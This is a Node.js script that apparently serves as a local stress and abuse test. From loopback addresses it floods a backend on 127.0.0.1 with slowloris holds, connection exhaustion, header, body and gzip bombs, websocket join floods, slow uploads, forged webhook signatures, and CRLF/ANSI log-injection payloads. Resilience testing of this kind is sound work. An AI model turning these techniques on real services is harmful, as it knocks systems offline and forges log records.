// SPDX-License-Identifier: MIT
//
// flood.mjs KIND PORT SECONDS [TOKEN [APIKEY [VIDEO]]] -- an attacker, in a
// process of its own.  It comes from addresses of its own in 127.0.0.0/8, which are
// limited as strangers are, says "begun" with its first connection, and prints what
// it got: {"sent":...,"open":...,"refused":...,"replies":...,"answers":{"429":...}}.
//
// It has a line of a gigabit, and sends ten thousand requests a second over it at
// most.

import { randomBytes, randomUUID } from "node:crypto";
import net from "node:net";
import tls from "node:tls";
import { setTimeout as sleep } from "node:timers/promises";
import zlib from "node:zlib";

const [kind, port, seconds, token = "", apikey = "", video = ""] =
    process.argv.slice(2);
const answers = {};
const REQUESTS_PER_S_MAX = 10_000;
const BYTES_PER_S_MAX = 125_000_000;
let sent = 0, sent_bytes = 0, open = 0, refused = 0, replies = 0;
let begin, end = Infinity;

const isOver = () => Date.now() >= end;

function count(text) {
	for (const [, status] of text.matchAll(/HTTP\/1\.1 (\d{3})/g))
		answers[status] = (answers[status] ?? 0) + 1;
	if (text.includes('"event":"phx_reply"'))
		replies++;
}

/** A connection from that address; null when it is refused. */
async function connect(address, isPlain = false) {
	const socket = await new Promise((resolve) => {
		const options = { host: "127.0.0.1", port: Number(port),
			localAddress: address, rejectUnauthorized: false };
		const socket = isPlain ? net.connect(options) :
		    tls.connect(options);
		socket.once(isPlain ? "connect" : "secureConnect", () => {
			open++;
			resolve(socket);
		});
		socket.once("close", () => resolve(null));
		socket.on("error", () => { refused++; });
		socket.setEncoding("latin1");
		socket.on("data", count);
	});
	if (socket !== null && end === Infinity) {
		console.log("begun");
		begin = Date.now();
		end = begin + Number(seconds) * 1000;
	}
	return socket;
}

const head = (method, target, more = "") =>
    `${method} ${target} HTTP/1.1\r\nHost: a\r\napikey: ${apikey}\r\n${more}\r\n`;

/** Waits until the line has room again. */
async function pace() {
	const due = begin + 1000 * Math.max(sent / REQUESTS_PER_S_MAX,
	    sent_bytes / BYTES_PER_S_MAX);
	await sleep(Math.max(0, due - Date.now()));
}

/** Writes text again and again, as fast as the line and the socket allow. */
async function repeat(text, { address = "127.0.0.9", sockets = 4,
    each = 16, after } = {}) {
	await Promise.all(Array.from({ length: sockets }, async () => {
		while (!isOver()) {
			const socket = await connect(address);
			if (socket === null) {
				await sleep(20);
				continue;
			}
			const gone = new Promise((resolve) =>
			    socket.once("close", resolve));
			while (!isOver() && !socket.destroyed) {
				const whole = Array.from({ length: each },
				    typeof text === "function" ? text :
					() => text).join("");
				sent += each;
				sent_bytes += whole.length;
				if (!socket.write(whole, "latin1"))
					await Promise.race([gone,
						new Promise((resolve) => socket
						    .once("drain", resolve))]);
				await pace();
				if (after)
					await Promise.race([gone,
						after(socket, gone)]);
			}
			socket.destroy();
		}
	}));
}

/** As many connections as that, from many addresses, kept to the end. */
async function hold(number, text, isPlain) {
	const all = [];
	for (let i = 0; i < number && !isOver(); i += 50) {
		const some = await Promise.all(Array.from({ length: 50 },
		    (_, j) => connect(`127.0.1.${1 + (i + j) % 200}`, isPlain)));
		for (const socket of some)
			if (socket !== null) {
				all.push(socket);
				sent++;
				socket.write(typeof text === "function" ?
				    text(socket) : text);
			}
	}
	while (!isOver())
		await sleep(100);
	for (const socket of all)
		socket.destroy();
}

/** Each of a thousand addresses comes now and then, 200 of them a second. */
async function visit(text) {
	for (let i = 0; !isOver(); i = (i + 1) % 1000) {
		const socket = await connect(
		    `127.0.${2 + Math.floor(i / 250)}.${1 + i % 250}`);
		if (socket !== null) {
			sent++;
			socket.write(text);
		}
		await sleep(Math.max(0, begin + sent * 5 - Date.now()));
	}
}

/** A text as a client's frame of a websocket (RFC 6455, 5.2), masked with 0. */
function frame(text) {
	const head = Buffer.alloc(8);
	head[0] = 0x81;
	head[1] = 0x80 | 126;
	head.writeUInt16BE(text.length, 2);
	return Buffer.concat([head, Buffer.from(text, "latin1")]);
}

const bearer = `Authorization: Bearer ${token}\r\n`;
const json = (body, more = "") => `Content-Type: application/json\r\n${more}` +
    `Content-Length: ${Buffer.byteLength(body)}\r\n`;
const post = (target, body, more) =>
    head("POST", target, json(body, more)) + body;

const upgrade = () => head("GET",
    `/realtime/v1/websocket?apikey=${apikey}&vsn=1.0.0`,
    "Connection: Upgrade\r\nUpgrade: websocket\r\n" +
    "Sec-WebSocket-Version: 13\r\n" +
    `Sec-WebSocket-Key: ${randomUUID().slice(0, 22)}==\r\n`);

const kinds = {
	slowloris: () => hold(2000, "GET / HTTP/1.1\r\nHost: a\r\nX-A: "),
	connections: () => hold(10_000, "", true),
	"header bomb": () => repeat(head("GET", "/health",
	    `X-Bomb: ${"a".repeat(60_000)}\r\n`), { each: 1 }),
	"body bomb": () => repeat(post("/functions/v1/device-check",
	    "[".repeat(60_000)), { each: 1 }),
	"gzip bomb": () => {
		const bomb = zlib.gzipSync(Buffer.alloc(20_000_000))
		    .toString("latin1");
		return repeat(head("POST", "/functions/v1/device-check",
		    "Content-Type: application/json\r\nContent-Encoding: gzip\r\n" +
		    `Content-Length: ${bomb.length}\r\n`) + bomb, { each: 1 });
	},
	"one token": () => repeat(head("GET", "/functions/v1/get-user-credits",
	    bearer), { each: 64, sockets: 8 }),
	"device ids": () => repeat(() => post("/functions/v1/device-check",
	    JSON.stringify({ device_id: randomUUID(),
		device_token: "bm8=" })), { each: 10 }),
	"huge upload": () => repeat("", { each: 1, after: async (socket, gone) => {
		const piece = Buffer.alloc(1 << 20);
		socket.write(head("POST", "/storage/v1/object/thumbnails/a/b.jpg",
		    `${bearer}Content-Type: image/jpeg\r\n` +
		    "Transfer-Encoding: chunked\r\n"));
		for (let i = 0; i < 1024 && !socket.destroyed && !isOver(); i++) {
			socket.write("100000\r\n");
			if (!socket.write(piece))
				await Promise.race([gone, new Promise((resolve) =>
				    socket.once("drain", resolve))]);
			socket.write("\r\n");
			sent_bytes += piece.length;
			await pace();
		}
		socket.destroy();
	} }),
	websockets: () => hold(2000, upgrade),
	joins: () => hold(500, (socket) => {
		socket.once("data", () => socket.write(frame(JSON.stringify({
			topic: "realtime:flood", event: "phx_join", ref: "1",
			payload: { access_token: token, config: {
				postgres_changes: [{ event: "UPDATE",
					schema: "public",
					table: "video_jobs" }] } } }))));
		return upgrade();
	}),
	streams: () => hold(2000, head("GET", "/functions/v1/user-events",
	    `${bearer}Accept: text/event-stream\r\n`)),
	"slow bodies": () => hold(500, head("POST", "/functions/v1/device-check",
	    "Content-Type: application/json\r\nContent-Length: 60000\r\n") + "{"),
	"slow readers": () => hold(200, (socket) => {
		socket.pause();
		return head("GET", video).repeat(50);
	}),
	"many addresses": () => visit(head("GET", "/functions/v1/get-models",
	    "Connection: close\r\n")),
	webhooks: () => repeat(() => post("/functions/v1/fal-webhook/" +
	    `${randomUUID()}.${randomBytes(16).toString("hex")}`, "{}",
	    `X-Fal-Webhook-Request-Id: ${randomUUID()}\r\n` +
	    "X-Fal-Webhook-User-Id: a\r\n" +
	    `X-Fal-Webhook-Timestamp: ${Math.floor(Date.now() / 1000)}\r\n` +
	    `X-Fal-Webhook-Signature: ${randomBytes(64).toString("hex")}\r\n`),
	{ each: 10 }),
	"log lines": () => repeat(head("GET",
	    "/functions/v1/x%0d%0a%7b%22event%22%3a%22forged%22%7d%1b%5b31m",
	    "User-Agent: \x1b[31m\"}{\"event\":\"forged\"\r\n"), { each: 4 }),
};

await kinds[kind]();
console.log(JSON.stringify({ sent, open, refused, replies, answers }));
process.exit(0);
